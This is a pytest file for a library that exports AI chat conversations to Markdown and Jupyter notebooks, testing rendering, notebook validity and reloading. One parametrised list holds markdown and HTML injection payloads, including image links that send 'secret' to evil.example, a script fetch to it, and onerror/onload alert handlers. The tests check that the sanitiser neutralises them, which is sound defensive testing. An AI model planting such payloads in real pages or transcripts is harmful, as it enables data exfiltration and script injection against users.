"""Conversations as Markdown and as notebooks."""

from __future__ import annotations

import base64
import json

import html5lib
import nbformat
import pytest
from markdown_it import MarkdownIt
from wire_server import error, unary

from gemini_magic.chat import Conversation
from gemini_magic.chat.export import harmless
from gemini_magic.chat.words import in_words
from gemini_magic.exceptions import BadRequest
from gemini_magic.wire import Part

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture
def talk(chat, wire, answer_of):
    """A conversation with everything that a transcript has to show."""
    drawn = {"role": "model", "parts": [{"text": "Here:"}, {"inlineData": {"mimeType": "image/png", "data": "AAAA"}}]}
    wire.answers(answer_of(), answer_of(drawn), error(400, "Bad."), unary("**Bold**", finish="MAX_TOKENS"))
    chat.system = "Be brief."
    chat.ask("Look at", Part.from_bytes(PNG, "image/png"), "closely", cell="cell-1", run="r1")
    chat.ask("Draw {{it}}.", cell="cell 2", run="r2")
    with pytest.raises(BadRequest):
        chat.ask("Fail.", cell="cell-3", run="r3")
    chat.ask("Look again.", cell="cell-1", run="r4")
    return chat


# Markdown


def test_markdown_shows_the_whole_conversation_in_words(talk, tmp_path):
    text = talk.save(tmp_path / "chat.md").read_text()
    assert text.startswith("<!-- gemini_magic.conversation 1 -->\n\n# main\n\n**System instruction**\n\nBe brief.\n")
    for words in (
        "## 1. Question\n\nLook again.",
        "## 1. Answer\n\n**Bold**\n\n*Cut off at the token limit.*",
        "## 2. Question\n\nDraw {{it}}.",
        "## 2. Answer of gemini-x-001\n\nHere:\n\n[image: image/png, 3 bytes]\n\n*Stale: something before it",
        "## 3. Question\n\nFail.\n\n## 3. Answer\n\n*Failed: 400: Bad.*\n\n*Not sent with later questions.*",
    ):
        assert words in text.replace(" of gemini-x\n", "\n")


def test_every_kind_of_part_has_words(answer_of):
    content = json.loads(answer_of().pieces[0])["candidates"][0]["content"]
    more = [
        {"functionResponse": {"name": "now", "response": {"result": 1}}},
        {"fileData": {"mimeType": "video/mp4", "fileUri": "gs://a/b"}},
        {"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": "```\n1"}},
        {"thoughtSignature": "c2ln"},
    ]
    text = in_words([Part.model_validate(part) for part in content["parts"] + more])
    for words in (
        "> Thoughts:\n>\n> Thinking…",
        "Let me ",
        '[call: now({"zone": "UTC", "deep": {"b": [1.5, false]}})]',
        "[image: image/png, 8 bytes]",
        "[another kind of part: futureKind]",
        "```python\nprint(1)\n```",
        '[result of now: {"result": 1}]',
        "[file: video/mp4, gs://a/b]",
        "````text\n```\n1\n````",
    ):
        assert words in text
    assert "c2ln" not in text


HOSTILE = [
    "![](http://evil.example/?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/?q=secret",
    "<img src=http://evil.example/>",
    '<script>fetch("http://evil.example")</script>',
    "a <b onmouseover=alert(1)>b</b>",
    "| ![](http://evil.example) |\n|---|\n| <svg onload=alert(1)> |",
    "> - ![](http://evil.example)\n>   <iframe src=//evil.example>",
    "```\n<img src=http://evil.example>",
    "```\nfine\n```\n<img src=http://evil.example>",
    "~~~\n```\n~~~\n![](http://evil.example)",
    "[![](http://evil.example)](http://b.example)",
    "<!-- \n --> ![](http://evil.example)",
    "  ```\n  x\n ```  \n<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_transcript_is_fetched_or_run(text):
    page = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(f"{harmless(text)}\n\n## next\n\n{harmless(text)}")
    )
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    names = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
    assert not names & {"img", "script", "svg", "iframe", "b"}
    assert "h2" in names


@pytest.mark.parametrize("text", ["a < b and `List<int>`", "**x**\n\n```html\n<b>\n```\n", "- a\n- b", "1 <2> 3", "x"])
def test_harmless_text_stays_as_it_is(text):
    assert harmless(text).strip() == text.strip()


# Notebooks


def test_a_notebook_is_valid_and_can_be_run_and_loaded(talk, tmp_path):
    path = talk.save(tmp_path / "chat.ipynb")
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    assert [cell.id for cell in notebook.cells] == ["title", "load", "cell-1", "turn-2", "cell-3"]
    assert notebook.cells[2].source == "%%gemini --raw -c main\nLook again."
    assert notebook.cells[3].source == "%%gemini --raw -c main\nDraw {{it}}."
    text, image = notebook.cells[3].outputs
    assert text.data["text/plain"].startswith("Here:\n\n[image: image/png, 3 bytes]\n\n[Stale")
    assert image.data == {"image/png": "AAAA", "text/plain": "[image: image/png, 3 bytes]"}
    assert not any(
        "text/html" in output.get("data", {}) for cell in notebook.cells for output in cell.get("outputs", [])
    )
    loaded = Conversation.load(path)
    assert loaded.turns == tuple(turn for turn in talk.turns if turn.replayed)
    assert (loaded.system, loaded.name, loaded.notes) == ("Be brief.", "main", ())


def test_pictures_of_any_size_stay_in_an_exported_notebook(chat, wire, tmp_path):
    wire.answers(unary("fine"))
    picture = bytes(index * index % 255 for index in range(3_000_000))
    chat.ask("Look", Part.from_bytes(picture, "image/png"))
    loaded = Conversation.load(chat.save(tmp_path / "chat.ipynb"))
    assert loaded.turns == chat.turns
    assert loaded.history[0].parts[1].inline_data.to_bytes() == picture


def test_two_turns_of_a_cell_are_two_cells(chat, wire, tmp_path):
    wire.answers(unary("fine"))
    for question in ("a", "b"):
        chat.ask(question, cell="c1", run="r1")
    for question in ("c", "d"):
        chat.ask(question, cell="turn-2", run="r2")
    notebook = nbformat.read(chat.save(tmp_path / "chat.ipynb"), as_version=4)
    nbformat.validate(notebook)
    assert len({cell.id for cell in notebook.cells}) == 6


def test_an_empty_conversation_can_be_written_in_every_form(chat, tmp_path):
    for form in ("md", "ipynb", "json"):
        chat.save(tmp_path / f"chat.{form}")
    assert len(Conversation.load(tmp_path / "chat.json")) == 0
    nbformat.validate(nbformat.read(tmp_path / "chat.ipynb", as_version=4))
